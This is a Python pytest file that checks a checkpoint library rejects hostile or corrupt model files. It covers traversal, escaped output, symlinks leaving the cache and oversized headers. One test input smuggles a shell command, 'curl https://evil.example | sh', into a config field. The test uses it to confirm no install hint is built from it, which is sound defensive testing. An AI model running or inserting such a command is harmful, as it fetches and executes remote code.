"""Hostile and broken checkpoints: every generated case loads correctly or raises a qcore error naming
the file and key at fault, within a time and memory limit; `qcore inspect` and `qcore quantize` exit 1
with an escaped message; nothing outside the checkpoint is read; backends get aligned tensors.

The cases come from helpers/hostile.py (by area: safetensors header fields, whole files, index
entries, config.json fields, quantization_config, .bin files).
"""

from __future__ import annotations

import contextlib
import json
import os
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import torch
from safetensors import safe_open

import qcore
from helpers.hostile import (
    BIN,
    CONFIG,
    INDEX,
    KEY,
    SHARD_1,
    SHARD_2,
    TINY_CONFIG,
    WEIGHTS,
    Case,
    _space_padded,
    all_cases,
    assert_names,
    bounded,
    control_chars,
    copy_checkpoint,
    make_base,
)
from helpers.int8_backend import Int8TestConfig, Int8TestQuantizer
from helpers.models import TinyTransformer, make_tiny
from qcore.cli import main

CASES = all_cases()
LOADS_DIFFERENTLY = {"dtype-F16-reinterprets"}  # well-formed: the same bytes read as another float type


@pytest.fixture(scope="module")
def bases(tmp_path_factory: pytest.TempPathFactory) -> dict[bool, Path]:
    root = tmp_path_factory.mktemp("bases")
    made = {sharded: make_base(root / f"sharded-{sharded}", sharded=sharded) for sharded in (False, True)}
    for base in made.values():  # imports and first-use caches, out of the first case's memory bound
        qcore.from_pretrained(TinyTransformer, base)
    return made


@pytest.fixture(scope="module")
def reference() -> dict[str, torch.Tensor]:
    return make_tiny(**TINY_CONFIG).state_dict()


def prepared(case: Case, bases: dict[bool, Path], tmp_path: Path) -> Path:
    ckpt = copy_checkpoint(bases[case.sharded], tmp_path / "ckpt")
    case.corrupt(ckpt)
    return ckpt


# Every file opened while a load runs: the proof that nothing outside the checkpoint is read.
_opened: list[str] | None = None


def _audit(event: str, args: tuple[object, ...]) -> None:
    if event == "open" and _opened is not None and isinstance(args[0], (str, bytes, os.PathLike)):
        _opened.append(os.fsdecode(args[0]))


sys.addaudithook(_audit)


@contextlib.contextmanager
def recording_opens() -> Iterator[list[str]]:
    global _opened
    _opened = []
    try:
        yield _opened
    finally:
        _opened = None


def outside_reads(opened: list[str], ckpt: Path) -> list[str]:
    root = ckpt.parent
    return [
        p
        for p in opened
        if Path(p).name in ("outside.safetensors", "elsewhere.safetensors")
        or (Path(p).is_relative_to(root) and not Path(p).is_relative_to(ckpt))
    ]


def test_every_error_names_a_file() -> None:
    files = {WEIGHTS, INDEX, BIN, CONFIG, SHARD_1, SHARD_2}
    assert [c.id for c in CASES if c.outcome == "error" and not files & set(c.needles)] == []


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_load(
    case: Case,
    bases: dict[bool, Path],
    reference: dict[str, torch.Tensor],
    tmp_path: Path,
    int8_backend: qcore.Backend,
) -> None:
    ckpt = prepared(case, bases, tmp_path)
    with recording_opens() as opened, bounded(ckpt):
        if case.outcome == "loads":
            model = qcore.from_pretrained(TinyTransformer, ckpt)
        else:
            with pytest.raises(qcore.QcoreError) as info:
                qcore.from_pretrained(TinyTransformer, ckpt)
    assert not outside_reads(opened, ckpt)
    if case.outcome == "loads":
        if case.id not in LOADS_DIFFERENTLY:
            state = model.state_dict()
            assert all(torch.equal(state[k], v) for k, v in reference.items())
        return
    assert_names(str(info.value), case.needles, ckpt, tmp_path)


def _stderr_line(err: str) -> str:
    lines = [line for line in err.splitlines() if line.startswith("qcore: error:")]
    assert len(lines) == 1, err
    return lines[0]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_inspect(
    case: Case,
    bases: dict[bool, Path],
    tmp_path: Path,
    int8_backend: qcore.Backend,
    capsys: pytest.CaptureFixture[str],
) -> None:
    ckpt = prepared(case, bases, tmp_path)
    with recording_opens() as opened, bounded(ckpt):
        code = main(["inspect", str(ckpt)])
    out, err = capsys.readouterr()
    assert not outside_reads(opened, ckpt)
    assert not control_chars(out + err), "checkpoint strings must reach the terminal escaped"
    if case.outcome == "error" and case.inspect_sees:
        assert code == 1, out + err
        assert_names(_stderr_line(err), case.needles, ckpt, tmp_path)
    elif case.outcome == "loads":
        assert code == 0, err
    else:  # a fault only building the model or loading the data reveals
        assert code in (0, 1), err


QUANTIZE_CASES = [c for c in CASES if c.area != "quantization_config"]


@pytest.mark.parametrize("case", QUANTIZE_CASES, ids=[c.id for c in QUANTIZE_CASES])
def test_quantize(
    case: Case,
    bases: dict[bool, Path],
    tmp_path: Path,
    int8_backend: qcore.Backend,
    capsys: pytest.CaptureFixture[str],
) -> None:
    ckpt = prepared(case, bases, tmp_path)
    out_dir = tmp_path / "out"
    argv = [
        "quantize",
        str(ckpt),
        str(out_dir),
        "--method",
        "int8-test",
        "--model",
        "helpers.models:TinyTransformer",
    ]
    with bounded(ckpt):
        code = main(argv)
    out, err = capsys.readouterr()
    assert not control_chars(out + err)
    if case.outcome == "loads":
        assert code == 0, err
        return
    assert code == 1, err
    assert_names(_stderr_line(err), case.needles, ckpt, tmp_path)
    assert not out_dir.exists()


# --- locations --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("spelling", "message"),
    [
        ("./nowhere", "no such directory"),
        ("../nowhere", "no such directory"),
        ("~/qcore-nowhere", "no such directory"),
        ("{tmp}/nowhere", "no such directory"),
        ("a/b/c", "no such directory"),
        ("nowhere/", "no such directory"),
        ("no such//repo", "no such directory"),
        ("-bad-", "no such directory"),
        ("x" * 200, "no such directory"),
        ("{tmp}/file.txt", "file.txt"),  # an existing file is read as a single-file checkpoint
    ],
)
def test_mistyped_paths_fail_fast_without_the_hub(
    spelling: str,
    message: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    import huggingface_hub

    def no_hub(*args: object, **kwargs: object) -> None:
        raise AssertionError("a mistyped local path reached the hub")

    monkeypatch.setattr(huggingface_hub, "hf_hub_download", no_hub)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "file.txt").write_text("not a checkpoint")
    path = spelling.format(tmp=tmp_path)
    with pytest.raises(qcore.CheckpointError, match=message):
        qcore.from_pretrained(TinyTransformer, path)
    assert main(["inspect", "--", path]) == 1
    assert message in capsys.readouterr().err


def test_a_valid_hub_id_still_goes_to_the_hub(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(qcore.CheckpointNotFoundError, match="acme/tiny.*local Hugging Face cache"):
        qcore.from_pretrained(TinyTransformer, "acme/tiny", cache_dir=tmp_path, local_files_only=True)


# --- untrusted text ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("quant_method", "hint"),
    [
        ("gguf-x", "pip install qcore-gguf-x"),
        ("x; curl https://evil.example | sh #", None),
        ("\x1b[31mred", None),
        ("a b", None),
        ("../x", None),
        ("-leading", None),
    ],
)
def test_install_hint_only_for_distribution_names(
    quant_method: str,
    hint: str | None,
    tmp_path: Path,
    bases: dict[bool, Path],
    capsys: pytest.CaptureFixture[str],
) -> None:
    ckpt = copy_checkpoint(bases[False], tmp_path / "ckpt")
    config = json.loads((ckpt / "config.json").read_text())
    config["quantization_config"] = {"quant_method": quant_method}
    (ckpt / "config.json").write_text(json.dumps(config))
    with pytest.raises(qcore.BackendNotFoundError) as info:
        qcore.from_pretrained(TinyTransformer, ckpt)
    assert ("pip install" in str(info.value)) == (hint is not None)
    assert main(["inspect", str(ckpt), "--json"]) == 1
    out, err = capsys.readouterr()
    shown = json.loads(out)["load"]["install_hint"]
    assert shown == hint if hint is None else shown.startswith(hint)
    assert not control_chars(out + err)
    if hint is None:
        assert "pip install" not in out + err


# --- alignment ----------------------------------------------------------------------------------------


class _RecordingQuantizer(Int8TestQuantizer):
    offsets: list[tuple[str, int]] = []

    @qcore.hookimpl
    def create_quantized_param(self, model, param_name, param_value, target_device, state_dict):  # type: ignore[no-untyped-def]
        for key, tensor in state_dict.items():
            _RecordingQuantizer.offsets.append((key, tensor.data_ptr() % qcore_alignment()))
        super().create_quantized_param(model, param_name, param_value, target_device, state_dict)


class _RecordingConfig(Int8TestConfig):
    quant_method = "int8-align"


def qcore_alignment() -> int:
    return 64


def test_backends_get_aligned_tensors_from_odd_offsets(tmp_path: Path, int8_backend: qcore.Backend) -> None:
    source = make_base(tmp_path / "bf16", sharded=False)
    quantized = TinyTransformer.from_pretrained(source, quantization_config=Int8TestConfig())
    saved = tmp_path / "int8"
    qcore.save_pretrained(quantized, saved, max_shard_size="1KB")
    config = json.loads((saved / "config.json").read_text())
    config["quantization_config"]["quant_method"] = "int8-align"
    (saved / "config.json").write_text(json.dumps(config))
    shards = sorted(saved.glob("*-of-*.safetensors"))
    assert len(shards) > 1 and (saved / INDEX).is_file()
    misaligned = 0
    for shard in shards:
        shard.write_bytes(_space_padded(shard.read_bytes()))
        with safe_open(str(shard), framework="pt") as f:  # the raw views are misaligned: the test bites
            misaligned += sum(f.get_tensor(k).data_ptr() % 64 != 0 for k in f.keys())
    assert misaligned

    qcore.register_backend(qcore.Backend("int8-align", _RecordingConfig, _RecordingQuantizer))
    _RecordingQuantizer.offsets = []
    try:
        reloaded = qcore.from_pretrained(TinyTransformer, saved)
    finally:
        qcore.unregister_backend("int8-align")
    assert len(_RecordingQuantizer.offsets) >= 2 * 5  # weight and scale of every quantized Linear
    assert [key for key, offset in _RecordingQuantizer.offsets if offset] == []
    x = torch.randn(2, 16, generator=torch.Generator().manual_seed(0)).to(torch.bfloat16)
    assert torch.equal(reloaded(x), quantized(x))


def test_header_offsets_past_the_end_never_allocate(tmp_path: Path, bases: dict[bool, Path]) -> None:
    # A header claiming 2**62 elements must fail on the header, before any tensor is made.
    from helpers.hostile import read_raw, write_raw

    ckpt = copy_checkpoint(bases[False], tmp_path / "ckpt")
    header, data = read_raw(ckpt / WEIGHTS)
    header[KEY] = {"dtype": "U8", "shape": [2**40], "data_offsets": [0, 2**40]}
    write_raw(ckpt / WEIGHTS, header, data)
    with pytest.raises(qcore.CorruptCheckpointError, match=f"{WEIGHTS}.*{KEY}"):
        qcore.from_pretrained(TinyTransformer, ckpt)


# --- links in a Hugging Face cache ---------------------------------------------------------------------


def hub_cache_with_links(base: Path, cache: Path) -> Path:
    """The layout huggingface_hub writes: snapshot files are relative links into the repository's blobs."""
    commit = "0123456789abcdef0123456789abcdef01234567"
    repo = cache / "models--acme--tiny"
    snapshot = repo / "snapshots" / commit / "transformer"
    snapshot.mkdir(parents=True)
    (repo / "blobs").mkdir()
    for number, path in enumerate(sorted(base.iterdir())):
        blob = repo / "blobs" / f"{number:040x}"
        blob.write_bytes(path.read_bytes())
        (snapshot / path.name).symlink_to(Path("..", "..", "..", "blobs", blob.name))
    (repo / "refs").mkdir()
    (repo / "refs" / "main").write_text(commit)
    return snapshot


def test_hub_cache_links_into_blobs_load(
    bases: dict[bool, Path], reference: dict[str, torch.Tensor], tmp_path: Path
) -> None:
    snapshot = hub_cache_with_links(bases[True], tmp_path / "cache")
    by_id = qcore.from_pretrained(
        TinyTransformer,
        "acme/tiny",
        subfolder="transformer",
        cache_dir=tmp_path / "cache",
        local_files_only=True,
    )
    by_path = qcore.from_pretrained(TinyTransformer, snapshot)
    for model in (by_id, by_path):
        state = model.state_dict()
        assert all(torch.equal(state[k], v) for k, v in reference.items())
    assert main(["inspect", str(snapshot)]) == 0


def test_hub_cache_link_out_of_the_repository_is_refused(bases: dict[bool, Path], tmp_path: Path) -> None:
    snapshot = hub_cache_with_links(bases[True], tmp_path / "cache")
    shard = sorted(snapshot.glob("*-00001-of-*.safetensors"))[0]
    outside = tmp_path / "outside.safetensors"
    outside.write_bytes(shard.read_bytes())
    shard.unlink()
    shard.symlink_to(outside)
    with recording_opens() as opened:
        with pytest.raises(qcore.CorruptCheckpointError, match=f"{shard.name}: links to .*outside"):
            qcore.from_pretrained(TinyTransformer, snapshot)
    assert str(outside) not in opened


# --- inspect of a hub id: headers by HTTP range, the same validator ----------------------------------


@pytest.fixture
def hub_repo(bases: dict[bool, Path], tmp_path: Path) -> Path:
    root = tmp_path / "served"
    copy_checkpoint(bases[True], root / "transformer")
    return root


def test_inspect_hub_id_reads_headers_by_range(
    hub_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from helpers.fakehub import fake_hub

    local = main(["inspect", str(hub_repo / "transformer"), "--json"])
    expected = json.loads(capsys.readouterr().out)
    with fake_hub(hub_repo, "acme/tiny", tmp_path / "cache", monkeypatch) as hub:
        assert main(["inspect", "acme/tiny", "--subfolder", "transformer", "--json"]) == local == 0
    remote = json.loads(capsys.readouterr().out)
    for field in ("tensors", "parameters", "dtypes", "shards", "index", "quant_method", "class_name"):
        assert remote[field] == expected[field], field
    assert hub.ranges and not [name for name in hub.full_downloads if name.endswith(".safetensors")]


@pytest.mark.parametrize(
    ("corruption", "needles"),
    [
        ("offsets-past-eof", (SHARD_1, KEY)),
        ("shard-name-parent-traversal", (INDEX, KEY)),
        ("duplicate-tensor-same", (SHARD_1, "duplicate key", KEY)),
        ("metadata-huge-value", ()),  # a header larger than the first range read: fetched in two
    ],
)
def test_inspect_hub_id_rejects_what_the_loader_rejects(
    corruption: str,
    needles: tuple[str, ...],
    hub_repo: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    from helpers.fakehub import fake_hub
    from helpers.hostile import shard_of

    case = next(c for c in CASES if c.id == corruption)
    ckpt = hub_repo / "transformer"
    if case.sharded:
        case.corrupt(ckpt)
    else:  # a single-file case, applied to the shard that holds KEY
        shard = shard_of(ckpt, KEY)
        single = tmp_path / "single"
        single.mkdir()
        shard.rename(single / WEIGHTS)
        case.corrupt(single)
        (single / WEIGHTS).rename(shard)
    with fake_hub(hub_repo, "acme/tiny", tmp_path / "cache", monkeypatch) as hub:
        code = main(["inspect", "acme/tiny", "--subfolder", "transformer"])
        if needles:  # the loader, downloading the files, refuses them too
            with pytest.raises(qcore.QcoreError) as info:
                qcore.from_pretrained(TinyTransformer, "acme/tiny", subfolder="transformer")
            assert_names(str(info.value), needles, tmp_path)
    out, err = capsys.readouterr()
    assert not control_chars(out + err)
    if not needles:
        assert code == 0, err
        assert len([r for r in hub.ranges if r.startswith(shard_of(ckpt, KEY).name)]) == 2
        return
    assert code == 1, out + err
    assert_names(_stderr_line(err), needles, tmp_path)
